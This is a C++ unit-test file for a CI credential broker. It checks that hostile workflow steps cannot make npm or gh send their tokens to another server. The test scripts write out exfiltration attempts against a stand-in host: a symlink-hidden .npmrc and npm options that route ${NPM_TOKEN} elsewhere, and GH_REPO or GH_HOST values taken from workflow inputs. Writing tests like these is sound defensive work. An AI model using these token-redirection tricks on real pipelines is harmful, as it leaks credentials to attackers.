// A hostile step or payload tries to make a granted npm or gh hand its token
// to a server of its choosing: through a project .npmrc hidden behind a
// symlinked directory, through npm options that name another registry and
// expand ${NPM_TOKEN}, and through a GH_REPO the workflow fills from an
// input. Real npm and gh run through the broker; the token's own server and
// "another host" are stand-ins on 127.0.0.1 and 127.0.0.2.
#include <boost/test/unit_test.hpp>

#include <nlohmann/json.hpp>

#include "engine/fixture.h"
#include "tests/support/upstream.h"
#include "tests/support/workflow_toml.h"

namespace {

using namespace hearth::testing;

const std::string kNpmToken = "npm_S3cr3t-hostile-step-83f1d2";
const std::string kGhToken = "ghe_S3cr3t-hostile-input-6a07c4";

// Whether any request `server` received carried `token` anywhere in its headers or body.
bool token_reached(Upstream& server, const std::string& token) {
  for (auto& r : server.requests_received()) {
    if (has(r.body, token) || has(r.path, token) || has(r.query, token)) return true;
    for (auto& [name, value] : r.headers)
      if (has(value, token)) return true;
  }
  return false;
}

// A registry's answer for any package: one version, 1.2.3.
std::optional<std::string> registry_route(const UpstreamRequest& r) {
  if (r.method != "GET") return std::nullopt;
  std::string name = r.path.substr(1);
  for (size_t at; (at = name.find("%2f")) != std::string::npos || (at = name.find("%2F")) != std::string::npos;)
    name.replace(at, 3, "/");
  nlohmann::json version = {{"name", name}, {"version", "1.2.3"}, {"dist", {{"tarball", "http://127.0.0.1/none.tgz"}}}};
  return nlohmann::json{{"name", name}, {"dist-tags", {{"latest", "1.2.3"}}}, {"versions", {{"1.2.3", version}}}}.dump();
}

// A namespace step "attack" granted gh read-only with GH_ENTERPRISE_TOKEN,
// running `run`; `input` declares the run's input and `env` (an inline
// table) is gh's environment.
std::string gh_workflow(const std::string& input, const std::string& env, const std::string& run) {
  return workflow_toml({{.id = "attack", .run = run, .more = R"(commands = ["gh"])"}},
                       sandbox_head("namespace") + "[inputs]\n" + input +
                           "\n\n[commands.gh]\nsecrets = [\"GH_ENTERPRISE_TOKEN\"]\nenv = " + env + "\npreset = \"gh:read-only\"\n\n");
}

// The token's registry on 127.0.0.1 and another on 127.0.0.2, and a
// workflow granting npm with `policy` to a step running `run`.
struct NpmSetup {
  TempDir host;
  Upstream registry;
  Upstream elsewhere{nullptr, "127.0.0.2"};
  std::unique_ptr<TempRepo> repo;

  std::string policy;

  NpmSetup(const std::string& policy, const std::string& run) : policy(policy) {
    registry.set_route(registry_route);
    elsewhere.set_route(registry_route);
    repo = std::make_unique<TempRepo>(workflow(run));
    repo->write("package.json", R"({"name": "hearth-demo", "version": "1.4.2"})");
  }
  std::string workflow(const std::string& run) const {
    return workflow_toml({{.id = "attack", .run = run + "\n", .more = R"(commands = ["npm"])"}},
                         sandbox_head("namespace") + R"([commands.npm]
secrets = ["NPM_TOKEN"]
env = { NPM_CONFIG_REGISTRY = ")" + registry.url() + R"(/", NPM_CONFIG_UPDATE_NOTIFIER = "false" }
)" + policy + "\n\n");
  }
  // The step runs `run` instead (a script that names the setup's ports).
  void rewrite_run(const std::string& run) { repo->rewrite(workflow(run)); }
  std::string other() const { return elsewhere.url() + "/"; }
  std::string other_key() const { return "//127.0.0.2:" + std::to_string(elsewhere.port()) + "/:_authToken"; }
  hearth::testing::RunResult run() {
    ScopedEnv env({{"NPM_TOKEN", kNpmToken}});
    return repo->run();
  }
};

}  // namespace

BOOST_AUTO_TEST_SUITE(broker_npm_gh_security)

BOOST_AUTO_TEST_CASE(a_project_npmrc_behind_a_symlinked_directory_is_found_and_has_no_token_to_expand) {
  // The step sends a cwd ("sub") that is a link to real/sub: beside the
  // logical path there is no .npmrc, but npm walks up from the physical
  // directory to real/, whose .npmrc routes @evil to another host with ${NPM_TOKEN}.
  NpmSetup s(R"(preset = "npm:read-only")", "true");
  std::string run = R"(mkdir -p real/sub && echo '{"name": "inner", "version": "1.0.0"}' > real/package.json
printf '%s\n' '@evil:registry=)" + s.other() + "' '" + s.other_key() + R"(=${NPM_TOKEN}' > real/.npmrc
ln -s real/sub sub
cd real/sub && HEARTH_WORKSPACE=/workspace/real npm view @evil/x version || echo "npmrc=$?"
cd /workspace && npm view left-pad version > view.txt)";
  s.rewrite_run(run);
  auto r = s.run();
  std::string out = r.succeeded_output("attack");
  BOOST_TEST(has(out, "npmrc=126"), out);
  BOOST_TEST(has(out, "would read /workspace/real/.npmrc"), out);
  BOOST_TEST(!token_reached(s.elsewhere, kNpmToken));
  // The grant's own registry still gets the token, from the broker's configuration.
  BOOST_TEST(s.repo->read("view.txt") == "1.2.3\n");
  BOOST_TEST(token_reached(s.registry, kNpmToken));
  s.repo->expect_secret_absent(r, kNpmToken);
}

BOOST_AUTO_TEST_CASE(npm_options_naming_another_registry_get_no_token) {
  // A grant written without the preset's deny list: the options pass the
  // patterns, so only where npm's token lives keeps it.
  NpmSetup s(R"(allow = ["view *"])", "true");
  std::string run = "npm view @evil/x version '--@evil:registry=" + s.other() + "' '--" + s.other_key() +
                    "=${NPM_TOKEN}' || echo \"scoped=$?\"\n"
                    "npm view left-pad version '-reg=" + s.other() + "' '--" + s.other_key() +
                    "=${NPM_TOKEN}' || echo \"reg=$?\"\n"
                    "npm view left-pad version --no-ignore-scripts || echo \"scripts=$?\"\n"
                    "npm view left-pad version > view.txt";
  s.rewrite_run(run);
  auto r = s.run();
  std::string out = r.succeeded_output("attack");
  BOOST_TEST(!token_reached(s.elsewhere, kNpmToken));
  BOOST_TEST(has(out, "scripts=126"), out);
  BOOST_TEST(s.repo->read("view.txt") == "1.2.3\n");
  BOOST_TEST(token_reached(s.registry, kNpmToken));
  s.repo->expect_secret_absent(r, kNpmToken);
}

BOOST_AUTO_TEST_CASE(a_gh_repo_from_an_input_cannot_send_the_token_to_another_host) {
  TempDir dir;
  TestCa ca = TestCa::make(dir.path);
  // The CA certificate is public, like /etc/ssl: readable by the jail's user.
  std::filesystem::permissions(dir.path, std::filesystem::perms::owner_all | std::filesystem::perms::group_read | std::filesystem::perms::group_exec |
                                std::filesystem::perms::others_read | std::filesystem::perms::others_exec);
  Upstream server{&ca};
  Upstream elsewhere{&ca, "127.0.0.2"};
  std::string host = "127.0.0.1:" + std::to_string(server.port());
  std::string other_host = "127.0.0.2:" + std::to_string(elsewhere.port());
  ScopedEnv env({{"GH_ENTERPRISE_TOKEN", kGhToken}});
  // The docs' own example: the repository comes from the run's inputs.
  TempRepo repo(gh_workflow(R"(repo = { type = "string", default = "o/r" })",
                            R"({ GH_HOST = ")" + host + R"(", GH_REPO = "${{ inputs.repo }}", SSL_CERT_FILE = ")" + ca.ca_pem + R"(" })",
                            R"(gh issue view 12 --json title || echo "view=$?")"));
  auto r = repo.run({{"repo", other_host + "/o/r"}});
  BOOST_TEST(r.outcome.status == RunStatus::failed);
  std::string reason = r.step("attack").reason;
  BOOST_TEST(has(reason, "GH_REPO"), reason);
  BOOST_TEST(has(reason, "'" + host + "'"), reason);
  BOOST_TEST(elsewhere.requests() == 0);
  BOOST_TEST(!token_reached(elsewhere, kGhToken));
  repo.expect_secret_absent(r, kGhToken);
  // The same input naming a repository on the grant's host is fine: gh asks that host.
  auto fine = repo.run({{"repo", "o/r"}});
  BOOST_TEST(fine.step("attack").reason.find("GH_REPO") == std::string::npos, fine.step("attack").reason);
  BOOST_TEST(server.requests() > 0);  // gh asked the grant's host (the stand-in's echo is no issue, so gh fails)
  BOOST_TEST(elsewhere.requests() == 0);
  repo.expect_secret_absent(fine, kGhToken);
}

BOOST_AUTO_TEST_CASE(gh_settings_from_inputs_are_refused_before_gh_starts) {
  ScopedEnv env({{"GH_ENTERPRISE_TOKEN", kGhToken}});
  TempRepo repo(gh_workflow(R"(host = { type = "string", default = "ghe.example.com" })", R"({ GH_HOST = "${{ inputs.host }}" })",
                            R"(gh issue view 12 --repo o/r || echo "view=$?")"));
  auto r = repo.run({{"host", "127.0.0.2:1"}});
  BOOST_TEST(r.outcome.status == RunStatus::failed);
  BOOST_TEST(has(r.step("attack").reason, "env 'GH_HOST' takes its value from ${{ }}"), r.step("attack").reason);
  repo.expect_secret_absent(r, kGhToken);
}

BOOST_AUTO_TEST_SUITE_END()
